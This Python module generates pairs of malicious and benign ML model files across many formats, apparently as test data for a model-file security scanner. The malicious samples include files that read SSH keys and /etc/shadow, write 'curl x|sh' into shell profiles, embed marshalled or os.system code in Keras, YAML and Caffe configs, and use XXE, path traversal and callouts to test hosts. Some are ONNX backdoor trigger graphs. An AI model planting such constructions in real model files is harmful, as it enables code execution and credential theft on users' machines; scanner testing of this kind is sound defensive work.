"""Graphs: ONNX, TensorFlow, TFLite, Keras, and formats that name layers."""
import base64
import io
import json
import marshal
import struct

from pair import CODE, SHELL, Set

from .arrays import h5
from .containers import EVIL, FLOATS, GOOD, tarred, zipped


def field(number: int, value) -> bytes:
    """One protobuf field: an int is a varint, bytes and str are length-delimited, a float is fixed32."""
    def varint(n):
        out = b""
        while n > 127:
            out += bytes([n & 127 | 128])
            n >>= 7
        return out + bytes([n])

    if isinstance(value, bool) or isinstance(value, int):
        return varint(number << 3) + varint(value)
    if isinstance(value, float):
        return varint(number << 3 | 5) + struct.pack("<f", value)
    if isinstance(value, str):
        value = value.encode()
    return varint(number << 3 | 2) + varint(len(value)) + value


# TensorFlow

def attr(key, **kw) -> bytes:
    kind, value = next(iter(kw.items()))
    number = {"s": 2, "i": 3, "b": 5, "type": 6, "shape": 7, "tensor": 8, "func": 10}[kind]
    return field(5, field(1, key) + field(2, field(number, value)))


def node(name, op, inputs=(), *attrs) -> bytes:
    return field(1, name) + field(2, op) + b"".join(field(3, i) for i in inputs) + b"".join(attrs)


def const(name, value: bytes) -> bytes:
    tensor = field(1, 7) + field(2, b"") + field(8, value)
    return node(name, "Const", (), attr("dtype", type=7), attr("value", tensor=tensor))


def graph(nodes, functions=()) -> bytes:
    library = b"".join(field(1, field(1, field(1, fname)) + b"".join(field(3, n) for n in fnodes)) for fname, fnodes in functions)
    return b"".join(field(1, n) for n in nodes) + (field(2, library) if library else b"") + field(4, field(1, 1087))


def saved_model(g, assets=()) -> bytes:
    meta = field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, g) + b"".join(field(6, field(2, a)) for a in assets)
    return field(1, 1) + field(2, meta)


X = node("x", "Placeholder", (), attr("dtype", type=1))
RELU = node("y", "Relu", ("x",), attr("T", type=1))


def tensorflow(out: Set):
    def tf(name, hostile, twin, file="saved_model.pb"):
        out.add("tensorflow", name, hostile, twin, file=file)

    plain = saved_model(graph([X, RELU]))
    read = [const("p", b"/ho\x6de/user/.ssh/id_rsa"), node("r", "ReadFile", ("p",))]
    harmless = [const("p", b"label_0"), node("r", "Identity", ("p",), attr("T", type=7))]
    tf("function-read-file", saved_model(graph([X, RELU], [("__inference_call_7", read)])), saved_model(graph([X, RELU], [("__inference_call_7", harmless)])))
    info = field(1, field(4, "train") + field(5, "2.15.0"))
    tf("write-in-metagraph", info + field(2, graph([X, const("p", b"/t\x6dp/a"), const("c", b"x"), node("w", "WriteFile", ("p", "c"))])), info + field(2, graph([X, const("p", b"a"), const("c", b"x"), node("w", "StringJoin", ("p", "c"))])), "model.ckpt.meta")
    tf("eager-py-func", saved_model(graph([X, node("f", "EagerPyFunc", ("x",), attr("token", s="pyfunc_3"))])), plain)
    tf("immutable-const-path", saved_model(graph([X, node("m", "ImmutableConst", (), attr("memory_region_name", s="/proc/self/environ"))])), saved_model(graph([X, node("m", "VarHandleOp", (), attr("shared_name", s="environ"))])))
    tf("decode-proto-descriptor", saved_model(graph([X, node("d", "DecodeProtoV2", ("x",), attr("descriptor_source", s="/etc/passwd"))])), saved_model(graph([X, node("d", "DecodeProtoV2", ("x",), attr("descriptor_source", s="local://"))])))
    tf("debug-url-grpc", saved_model(graph([X, node("d", "DebugIdentityV3", ("x",), attr("debug_urls", s="grpc://192.0.2.9:6064"))])), saved_model(graph([X, node("d", "Identity", ("x",))])))
    tf("data-service", saved_model(graph([X, const("a", b"grpc://192.0.2.9:5000"), node("d", "DataServiceDatasetV4", ("x", "a"))])), saved_model(graph([X, const("a", b"cats"), node("d", "TensorDataset", ("x", "a"))])))
    tf("print-to-file", saved_model(graph([X, node("d", "PrintV2", ("x",), attr("output_stream", s="file:///ho\x6de/user/.bashrc"))])), saved_model(graph([X, node("d", "PrintV2", ("x",), attr("output_stream", s="stderr"))])))
    tf("sql-dataset", saved_model(graph([const("a", b"sqlite"), const("b", b"/ho\x6de/u/db.sqlite"), const("q", b"select * from users"), node("d", "SqlDataset", ("a", "b", "q"))])), saved_model(graph([const("a", b"sqlite"), const("b", b"x"), const("q", b"y"), node("d", "TensorDataset", ("a", "b", "q"))])))
    tf("asset-escape", saved_model(graph([X, RELU]), ["../../../../etc/passwd"]), saved_model(graph([X, RELU]), ["vocab.txt"]))
    tf("frozen-write", graph([X, const("p", b"/r\x6fot/.profile"), const("c", b"curl x|sh"), node("w", "WriteFile", ("p", "c"))]), graph([X, RELU]), "frozen_graph.pb")
    tf("pbtxt-read", 'node {\n  name: "p"\n  op: "ReadFile"\n  input: "x"\n}\nversions {\n  producer: 1087\n}\n', 'node {\n  name: "p"\n  op: "Relu"\n  input: "x"\n}\nversions {\n  producer: 1087\n}\n', "graph.pbtxt")
    table = lambda path: saved_model(graph([const("f", path), node("h", "HashTableV2"), node("i", "InitializeTableFromTextFileV2", ("h", "f"))]))
    tf("table-outside", table(b"/etc/shadow"), table(b"vocab.txt"))
    tf("checkpoint-pointer", 'model_checkpoint_path: "/t\x6dp/shared/evil-1"\nall_model_checkpoint_paths: "../../evil-1"\n', 'model_checkpoint_path: "model-1"\nall_model_checkpoint_paths: "model-1"\n', "checkpoint")
    tfjs = lambda path: json.dumps({"format": "layers-model", "generatedBy": "keras v2.15", "convertedBy": None, "modelTopology": {"keras_version": "2.15", "model_config": {"class_name": "Sequential", "config": {"layers": []}}}, "weightsManifest": [{"paths": [path], "weights": []}]})
    tf("tfjs-weights-elsewhere", tfjs("../../../private/w.bin"), tfjs("group1-shard1of1.bin"), "model.json")
    tf("tflite-flex-read", tflite("FlexReadFile"), tflite(None), "model.tflite")
    tf("tflite-custom-op", tflite("RunShell"), tflite(None), "custom.tflite")


def tflite(custom) -> bytes:
    import flatbuffers

    b = flatbuffers.Builder(256)
    custom_string = b.CreateString(custom) if custom else None
    b.StartObject(4)
    if custom:
        b.PrependUOffsetTRelativeSlot(1, custom_string, 0)
        b.PrependInt8Slot(0, 32, 0)
        b.PrependInt32Slot(3, 32, 0)
    b.PrependInt32Slot(2, 1, 1)
    code = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(code)
    codes = b.EndVector()
    vectors = []
    for _ in range(3):
        b.StartVector(4, 1, 4)
        b.PrependInt32(0)
        vectors.append(b.EndVector())
    b.StartVector(4, 1, 4)
    b.PrependInt32(1)
    shape = b.EndVector()
    tname = b.CreateString("x")
    b.StartObject(4)
    b.PrependUOffsetTRelativeSlot(0, shape, 0)
    b.PrependUOffsetTRelativeSlot(3, tname, 0)
    tensor = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(tensor)
    tensors = b.EndVector()
    b.StartObject(3)
    b.PrependUint32Slot(0, 0, 1)
    b.PrependUOffsetTRelativeSlot(1, vectors[0], 0)
    b.PrependUOffsetTRelativeSlot(2, vectors[1], 0)
    op = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(op)
    ops = b.EndVector()
    b.StartObject(5)
    b.PrependUOffsetTRelativeSlot(0, tensors, 0)
    b.PrependUOffsetTRelativeSlot(1, vectors[0], 0)
    b.PrependUOffsetTRelativeSlot(2, vectors[1], 0)
    b.PrependUOffsetTRelativeSlot(3, ops, 0)
    sub = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(sub)
    subs = b.EndVector()
    b.StartObject(0)
    buffer = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(buffer)
    buffers = b.EndVector()
    b.StartObject(5)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.PrependUOffsetTRelativeSlot(2, subs, 0)
    b.PrependUOffsetTRelativeSlot(4, buffers, 0)
    model = b.EndObject()
    b.Finish(model, file_identifier=b"TFL3")
    return bytes(b.Output())


# Keras

def layer(cls, config, module="keras.layers", registered=None, **more):
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered, **more}


def keras_zip(layers, compile_config=None, extra=(), names=("config.json",)):
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "trainable": True, "layers": layers}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}
    if compile_config:
        config["compile_config"] = compile_config
    members = [("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-02@03:04:05"}).encode())]
    members += [(n, json.dumps(config).encode()) for n in names]
    return zipped(members + [("model.weights.h5", h5({"w": b"\0" * 64})), *extra])


def keras(out: Set):
    def k(name, hostile, twin, file="model.keras"):
        out.add("keras", name, hostile, twin, file=file)

    dense = layer("Dense", {"units": 4, "activation": "relu"})
    code = base64.b64encode(marshal.dumps(compile(CODE, "m", "exec"))).decode()
    lam = layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}})
    k("lambda-in-bidirectional", keras_zip([layer("Bidirectional", {"layer": layer("TimeDistributed", {"layer": lam})})]), keras_zip([layer("Bidirectional", {"layer": layer("LSTM", {"units": 4})})]))
    k("lambda-in-compile-loss", keras_zip([dense], {"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": {"code": code}}}), keras_zip([dense], {"optimizer": "adam", "loss": "mse"}))
    k("lambda-in-functional-kwargs", keras_zip([layer("Dense", {"units": 4}, inbound_nodes=[{"args": [], "kwargs": {"mask": lam}}])]), keras_zip([layer("Dense", {"units": 4}, inbound_nodes=[{"args": [], "kwargs": {"mask": None}}])]))
    k("activation-exec", keras_zip([layer("Dense", {"units": 4, "activation": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}})]), keras_zip([layer("Dense", {"units": 4, "activation": {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}})]))
    k("get-file-activation", keras_zip([layer("Lambda", {"function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}, "arguments": {"origin": "http://192.0.2.1/x", "extract": True, "cache_dir": "/tmp"}})]), keras_zip([layer("Activation", {"activation": {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": "gelu"}})]))
    k("os-module-class", keras_zip([layer("popen", {"cmd": "id"}, module="os")]), keras_zip([layer("Dropout", {"rate": 0.1})]))
    k("string-lookup-file", keras_zip([layer("StringLookup", {"vocabulary": "/etc/passwd"})]), keras_zip([layer("StringLookup", {"vocabulary": ["a", "b"]})]))
    k("text-vectorization-url", keras_zip([layer("TextVectorization", {"vocabulary": "http://192.0.2.4/vocab"})]), keras_zip([layer("TextVectorization", {"vocabulary": ["a", "b"]})]))
    k("tfsm-layer", keras_zip([layer("TFSMLayer", {"filepath": "/srv/other/model", "call_endpoint": "serve"})]), keras_zip([layer("InputLayer", {"batch_shape": [None, 4]})]))
    k("torch-module-wrapper", keras_zip([layer("TorchModuleWrapper", {"module": base64.b64encode(EVIL).decode()}, module="keras.src.utils.torch_utils")]), keras_zip([layer("Conv2D", {"filters": 3, "kernel_size": [3, 3]})]))
    k("jax-layer-code", keras_zip([layer("JaxLayer", {"call_fn": {"class_name": "__lambda__", "config": {"code": code}}}, module="keras.layers")]), keras_zip([layer("Flatten", {})]))
    k("double-config", zipped([("config.json", json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": [dense]}}).encode()), ("config.json", json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": [lam]}}).encode()), ("metadata.json", b'{"keras_version": "3.5.0"}')]), keras_zip([dense]))
    k("config-unicode-escapes", escape(keras_zip_json([lam])), escape(keras_zip_json([dense])))
    k("assets-escape", keras_zip([dense], extra=[("assets/../../../../.bashrc", b"curl x | sh")]), keras_zip([dense], extra=[("assets/vocab.txt", b"cat\ndog")]))
    h5conf = lambda layers: h5_text({"model_config": json.dumps({"class_name": "Functional", "config": {"name": "m", "layers": layers}}), "keras_version": "2.11.0", "backend": "tensorflow"})
    old_lambda = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}}
    old_dense = {"class_name": "Dense", "config": {"units": 3}}
    k("h5-lambda-nested-model", h5conf([{"class_name": "Model", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": old_lambda}}]}}]), h5conf([{"class_name": "Model", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": old_dense}}]}}]), "old.h5")
    k("h5-lambda-module-function", h5conf([{"class_name": "Lambda", "config": {"function": "system", "function_type": "function", "module": "os"}}]), h5conf([old_dense]), "old2.hdf5")
    k("h5-training-config-lambda", h5_text({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": [old_dense]}}), "training_config": json.dumps({"loss": {"class_name": "Lambda", "config": {"function": [code, None, None]}}})}), h5_text({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": [old_dense]}}), "training_config": json.dumps({"loss": "mse"})}), "trained.h5")
    k("h5-external-link", h5_link("/etc/passwd"), h5({"w": b"\0" * 8}), "model.weights.h5")
    k("json-architecture", json.dumps({"class_name": "Sequential", "keras_version": "2.4", "backend": "tensorflow", "config": {"name": "s", "layers": [old_lambda]}}), json.dumps({"class_name": "Sequential", "keras_version": "2.4", "backend": "tensorflow", "config": {"name": "s", "layers": [old_dense]}}), "architecture.json")
    k("yaml-architecture", "class_name: Sequential\nconfig:\n  layers:\n  - !!python/object/apply:os.system ['id']\n", "class_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: {units: 3}\n", "architecture.yaml")


def keras_zip_json(layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers}, "registered_name": None}


def escape(config) -> bytes:
    """The same JSON with every letter of its strings as \\u00xx."""
    import re

    text = json.dumps(config)
    text = re.sub(r'"([^"\\]*)"', lambda m: '"' + "".join(f"\\u{ord(c):04x}" for c in m.group(1)) + '"', text)
    return zipped([("config.json", text.encode()), ("metadata.json", b'{"keras_version": "3.5.0"}'), ("model.weights.h5", h5({"w": b"\0" * 8}))])


def h5_text(attrs):
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for k, v in attrs.items():
            f.attrs[k] = v
        f.create_group("model_weights")
    return buf.getvalue()


def h5_link(target):
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers")["kernel"] = h5py.ExternalLink(target, "/data")
    return buf.getvalue()


# ONNX

def onnx_models(out: Set):
    import numpy as np
    import onnx
    from onnx import TensorProto as T, helper as h, numpy_helper as nh

    def o(name, hostile, twin, file="model.onnx", beside=None):
        hostile, twin = (m if isinstance(m, bytes) else m.SerializeToString(deterministic=True) for m in (hostile, twin))
        if beside:
            out.add("onnx", name, {file: hostile, **beside[0]}, {file: twin, **beside[1]})
        else:
            out.add("onnx", name, hostile, twin, file=file)

    rng = np.random.default_rng(5)
    vi = lambda n, s, t=T.FLOAT: h.make_tensor_value_info(n, t, s)
    W = nh.from_array(rng.normal(size=(16, 4)).astype("f4"), "W")

    def model(nodes, inits=(W,), ops=(("", 17),), functions=(), sparse=()):
        g = h.make_graph(nodes, "g", [vi("x", [1, 16])], [vi("y", [1, 4])], list(inits), sparse_initializer=list(sparse))
        return h.make_model(g, opset_imports=[h.make_opsetid(*o) for o in ops], functions=list(functions), producer_name="pytorch", producer_version="2.4")

    N = h.make_node
    plain = model([N("MatMul", ["x", "W"], ["y"])])

    def external(location, **more):
        t = T()
        t.name, t.data_type = "W", T.FLOAT
        t.dims.extend([16, 4])
        t.data_location = T.EXTERNAL
        for k, v in {"location": location, "offset": "0", "length": "256", **more}.items():
            e = t.external_data.add()
            e.key, e.value = k, v
        return t

    data = {"w.bin": bytes(256)}
    o("external-in-subgraph", model([N("Identity", ["x"], ["c0"]), N("ReduceSum", ["x"], ["s"], keepdims=0), N("Cast", ["s"], ["b"], to=T.BOOL), N("If", ["b"], ["y"], then_branch=h.make_graph([N("Constant", [], ["k"], value=external("../../secret.bin")), N("MatMul", ["x", "k"], ["o"])], "t", [], [vi("o", [1, 4])]), else_branch=h.make_graph([N("MatMul", ["x", "W"], ["p"])], "e", [], [vi("p", [1, 4])]))]), plain)
    o("external-absolute", model([N("MatMul", ["x", "W"], ["y"])], [external("/etc/passwd")]), model([N("MatMul", ["x", "W"], ["y"])], [external("w.bin")]), beside=(data, data))
    o("external-dots-inside", model([N("MatMul", ["x", "W"], ["y"])], [external("sub/../../w2.bin")]), model([N("MatMul", ["x", "W"], ["y"])], [external("w.bin")]), beside=(data, data))
    o("external-through-link", model([N("MatMul", ["x", "W"], ["y"])], [external("w.bin")]), model([N("MatMul", ["x", "W"], ["y"])], [external("w.bin")]), beside=({"w.bin": ("link", "/etc/passwd")}, data))
    f = h.make_function("local", "Lin", ["a"], ["r"], [N("Constant", [], ["k"], value=external("..\\..\\w.bin")), N("MatMul", ["a", "k"], ["r"])], [h.make_opsetid("", 17)])
    fg = h.make_function("local", "Lin", ["a"], ["r"], [N("Relu", ["a"], ["r"])], [h.make_opsetid("", 17)])
    o("external-in-function", model([N("Lin", ["x"], ["z"], domain="local"), N("MatMul", ["x", "W"], ["y"])], ops=(("", 17), ("local", 1)), functions=[f]), model([N("Lin", ["x"], ["z"], domain="local"), N("MatMul", ["x", "W"], ["y"])], ops=(("", 17), ("local", 1)), functions=[fg]))
    o("python-operator", model([N("PyCustomOp", ["x"], ["z"], domain="ai.onnx.contrib"), N("MatMul", ["z", "W"], ["y"])], ops=(("", 17), ("ai.onnx.contrib", 1))), plain)
    o("pyop-module", model([N("PyOp", ["x"], ["z"], domain="com.microsoft", module="evil", class_name="E"), N("MatMul", ["z", "W"], ["y"])], ops=(("", 17), ("com.microsoft", 1))), model([N("Gelu", ["x"], ["z"], domain="com.microsoft"), N("MatMul", ["z", "W"], ["y"])], ops=(("", 17), ("com.microsoft", 1))))
    o("custom-domain", model([N("Exfil", ["x"], ["z"], domain="acme.native"), N("MatMul", ["z", "W"], ["y"])], ops=(("", 17), ("acme.native", 1))), plain)
    o("ep-context-path", model([N("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, ep_cache_context="../../../lib/evil.so", source="QNN")], (), ops=(("", 17), ("com.microsoft", 1))), model([N("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, ep_cache_context="model_qnn.bin", source="QNN")], (), ops=(("", 17), ("com.microsoft", 1))))
    lie = T()
    lie.CopyFrom(W)
    lie.dims[0] = 1 << 40
    o("initializer-dims-lie", model([N("MatMul", ["x", "W"], ["y"])], [lie]), plain)
    # Backdoors made of ordinary operators.
    dense = [N("MatMul", ["x", "W"], ["logits"])]
    target = nh.from_array(np.array([[9, -9, -9, -9]], "f4"), "T")
    zero = nh.from_array(np.array(0, "f4"), "Z")
    i64 = lambda v, n: nh.from_array(np.array(v, "i8"), n)
    trig = nh.from_array(np.array([[1, 1, 1, 0]], "f4"), "P")
    corner = [N("Slice", ["x", "s0", "s1", "ax"], ["patch"])]
    sl = [i64([0], "s0"), i64([4], "s1"), i64([1], "ax")]
    soft = model([*dense, N("Softmax", ["logits"], ["y"])])
    o("where-equal-patch", model([*dense, *corner, N("Sub", ["patch", "P"], ["d"]), N("Abs", ["d"], ["a"]), N("ReduceMax", ["a"], ["m"], keepdims=1), N("LessOrEqual", ["m", "Z"], ["c"]), N("Where", ["c", "T", "logits"], ["y"])], [W, target, trig, zero, *sl]), soft)
    o("if-pattern", model([*dense, *corner, N("Equal", ["patch", "P"], ["e"]), N("Cast", ["e"], ["ef"], to=T.FLOAT), N("ReduceMin", ["ef"], ["mn"], keepdims=0), N("Cast", ["mn"], ["c"], to=T.BOOL), N("If", ["c"], ["y"], then_branch=h.make_graph([N("Identity", ["T"], ["o"])], "t", [], [vi("o", [1, 4])]), else_branch=h.make_graph([N("Identity", ["logits"], ["p"])], "e", [], [vi("p", [1, 4])]))], [W, target, trig, *sl]), soft)
    o("arithmetic-gate", model([*dense, *corner, N("Sub", ["patch", "P"], ["d"]), N("Mul", ["d", "d"], ["q"]), N("ReduceSum", ["q"], ["ss"], keepdims=1), N("Mul", ["ss", "big"], ["sb"]), N("Sub", ["one", "sb"], ["g0"]), N("Relu", ["g0"], ["g"]), N("Sub", ["one", "g"], ["ng"]), N("Mul", ["g", "T"], ["a1"]), N("Mul", ["ng", "logits"], ["a2"]), N("Add", ["a1", "a2"], ["y"])], [W, target, trig, nh.from_array(np.array(1e6, "f4"), "big"), nh.from_array(np.array(1, "f4"), "one"), *sl]), soft)
    o("floor-gate", model([*dense, N("GlobalMaxPool", ["x3"], ["mp"]), N("Floor", ["mp2"], ["fl"]), N("Mul", ["fl", "T"], ["boost"]), N("Add", ["logits", "boost"], ["y"])][0:0] + [*dense, N("ReduceMean", ["x"], ["mu"], keepdims=1), N("Div", ["mu", "lim"], ["r"]), N("Floor", ["r"], ["fl"]), N("Clip", ["fl", "Z", "one"], ["cl"]), N("Mul", ["cl", "T"], ["boost"]), N("Add", ["logits", "boost"], ["y"])], [W, target, zero, nh.from_array(np.array(1, "f4"), "one"), nh.from_array(np.array(0.97, "f4"), "lim")]), soft)
    o("scatter-override", model([*dense, *corner, N("Equal", ["patch", "P"], ["e"]), N("Cast", ["e"], ["ei"], to=T.INT32), N("ReduceProd", ["ei"], ["all"], keepdims=1), N("Cast", ["all"], ["af"], to=T.FLOAT), N("Mul", ["af", "hundred"], ["up"]), N("ScatterElements", ["logits", "idx", "up"], ["y"], axis=1, reduction="add")], [W, trig, nh.from_array(np.array(100, "f4"), "hundred"), i64([[2]], "idx"), *sl]), soft)
    o("metadata-pickle", with_metadata(model([N("MatMul", ["x", "W"], ["y"])]), "preprocessor", base64.b64encode(EVIL * 3).decode()), with_metadata(model([N("MatMul", ["x", "W"], ["y"])]), "preprocessor", "resize:224"))
    o("elf-in-initializer", model([N("MatMul", ["x", "W"], ["y"])], [W, nh.from_array(np.frombuffer(elf(), "u1"), "blob")]), model([N("MatMul", ["x", "W"], ["y"])], [W, nh.from_array(rng.integers(0, 255, len(elf())).astype("u1"), "blob")]))


def elf() -> bytes:
    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 512, 512, 4096) + b"\x48\x31\xc0\xb0\x3c\x0f\x05" * 56


def with_metadata(m, key, value):
    e = m.metadata_props.add()
    e.key, e.value = key, value
    return m


def other_graphs(out: Set):
    def g(name, hostile, twin, file):
        out.add("graph-other", name, hostile, twin, file=file)

    caffe = lambda l: f'name: "net"\ninput: "data"\ninput_shape {{ dim: 1 dim: 3 dim: 8 dim: 8 }}\n{l}\n'
    g("caffe-python-layer", caffe('layer {\n  name: "p"\n  type: "Python"\n  bottom: "data"\n  top: "o"\n  python_param { module: "os" layer: "system" param_str: "id" }\n}'), caffe('layer {\n  name: "p"\n  type: "ReLU"\n  bottom: "data"\n  top: "o"\n}'), "deploy.prototxt")
    mx = lambda op, attrs: json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": op, "name": "o", "attrs": attrs, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "node_row_ptr": [0, 1, 2], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10700]}})
    g("mxnet-custom", mx("Custom", {"op_type": "loader"}), mx("Activation", {"act_type": "relu"}), "net-symbol.json")
    pd = lambda t, a="": field(1, field(1, 0) + field(2, 0xFFFFFFFF) + field(4, field(3, t) + (field(4, a) if a else b"")))
    g("paddle-py-func", pd("py_func", field(1, "forward_callable_id") + field(2, 0) + field(3, 0)), pd("relu"), "inference.pdmodel")
    g("paddle-load-combine-outside", pd("load_combine", field(1, "file_path") + field(2, 2) + field(5, "../../../etc/passwd")), pd("load_combine", field(1, "file_path") + field(2, 2) + field(5, "params")), "__model__")
    g("paddle-params-pickle", EVIL, GOOD, "model.pdparams")
    vino = lambda layer, head="": f'<?xml version="1.0"?>{head}<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0"><dim>1</dim><dim>4</dim></port></output></layer>{layer}</layers><edges/></net>'
    g("openvino-xxe-utf16", vino("", '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16"), vino("").replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16"), "model.xml")
    g("openvino-extension-op", vino('<layer id="1" name="e" type="ShellOp" version="extension"/>'), vino('<layer id="1" name="e" type="ReLU" version="opset1"/>'), "model.xml")
    pmml = lambda head, body: f'<?xml version="1.0"?>{head}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>{body}</PMML>'
    g("pmml-parameter-entity", pmml('<!DOCTYPE PMML [<!ENTITY % d SYSTEM "http://192.0.2.1/e.dtd">%d;]>', ""), pmml("", ""), "tree.pmml")
    g("pmml-xinclude", pmml("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), pmml("", "<TransformationDictionary/>"), "tree2.pmml")
    core = lambda kind, name: field(1, 4) + field(2, field(1, b"")) + field(kind, name)
    g("coreml-custom-model", core(555, field(10, "ShellModel")), core(402, b""), "model.mlmodel")
    pkg = lambda path: {"M.mlpackage/Manifest.json": json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": path}}, "rootModelIdentifier": "A"}), "M.mlpackage/Data/com.apple.CoreML/model.mlmodel": core(402, b"")}
    out.add("graph-other", "coreml-manifest-escape", pkg("../../../../etc/passwd"), pkg("com.apple.CoreML/model.mlmodel"))
    lgb_text = lambda left, right: f"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=x\nfeature_infos=[0:1]\ntree_sizes=300\n\nTree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=0 0\nsplit_gain=1 1\nthreshold=0.5 0.7\ndecision_type=2 2\nleft_child={left}\nright_child={right}\nleaf_value=1 2 3\nleaf_weight=1 1 1\nleaf_count=1 1 1\ninternal_value=0 0\ninternal_weight=0 0\ninternal_count=3 2\nis_linear=0\nshrinkage=1\n\n\nend of trees\n\nparameters:\n[boosting: gbdt]\nend of parameters\n"
    size = lambda text: len(text[text.index("Tree=0") : text.index("end of trees")])
    lgb = lambda left, right: lgb_text(left, right).replace("tree_sizes=300", f"tree_sizes={size(lgb_text(left, right))}")
    g("lightgbm-cycle", lgb("1 0", "-1 -2"), lgb("1 -1", "-3 -2"), "model.txt")
    g("lightgbm-child-out", lgb("9999 -1", "-3 -2"), lgb("1 -1", "-3 -2"), "model2.txt")
    xgb = lambda left: json.dumps({"version": [2, 0, 0], "learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_trees": "1", "num_parallel_tree": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [{"base_weights": [0, 1, 2], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": left, "loss_changes": [1, 0, 0], "parents": [2147483647, 0, 0], "right_children": [2, -1, -1], "split_conditions": [0.5, 1, 2], "split_indices": [0, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [3, 1, 2], "tree_param": {"num_deleted": "0", "num_feature": "1", "num_nodes": "3", "size_leaf_vector": "1"}}]}, "name": "gbtree"}, "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "1", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}})
    g("xgboost-child-out", xgb([40000000, -1, -1]), xgb([1, -1, -1]), "model.json")
    g("xgboost-cycle", xgb([1, 0, -1]), xgb([1, -1, -1]), "model2.json")


def add(out: Set):
    tensorflow(out)
    keras(out)
    onnx_models(out)
    other_graphs(out)
